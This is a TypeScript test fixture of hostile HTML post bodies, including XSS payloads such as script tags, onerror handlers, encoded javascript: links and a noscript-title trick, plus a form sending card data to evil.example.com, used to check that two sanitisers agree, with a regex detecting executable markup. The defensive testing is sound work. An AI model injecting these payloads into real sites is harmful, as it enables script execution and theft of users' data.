// Test-only: post bodies a hostile WordPress could send, for both sanitisers (the browser's and the server's),
// so one cannot quietly fall behind the other.

export const HOSTILE_BODIES: Array<[label: string, html: string]> = [
  ['a script element', '<script>alert(1)</script><p>ok</p>'],
  ['an event handler', '<img src="x" onerror="alert(1)"><p onmouseover="alert(1)">ok</p>'],
  ['a javascript: link', '<a href="javascript:alert(1)">ok</a>'],
  ['an encoded javascript: link', '<a href=" &#106;ava&#x73;cript&colon;alert(1)">ok</a>'],
  ['a script inside SVG', '<svg><script>alert(1)</script></svg><p>ok</p>'],
  ['a frame with srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>ok</p>'],
  ['an object', '<object data="evil.swf"></object><p>ok</p>'],
  [
    'a form posting elsewhere',
    '<form action="https://evil.example.com"><input name="card"><button>Pay</button></form>',
  ],
  ['a style sheet', '<style>body{display:none}</style><p>ok</p>'],
  ['an inline style overlay', '<div style="position:fixed;inset:0">ok</div>'],
  ['a base element', '<base href="https://evil.example.com/"><p>ok</p>'],
  [
    'a handler hidden in a noscript title',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ],
  ['a javascript: image source set', '<img src="a.jpg" srcset="javascript:alert(1) 1x, b.jpg 2x">'],
];

/** Markup that would run something or restyle the page, as it would appear in sanitised output. */
export const EXECUTABLE_MARKUP =
  /<script|<iframe|<object|<embed|<form|<input|<button|<style|<base|<svg|\son\w+=|javascript:|style=/i;
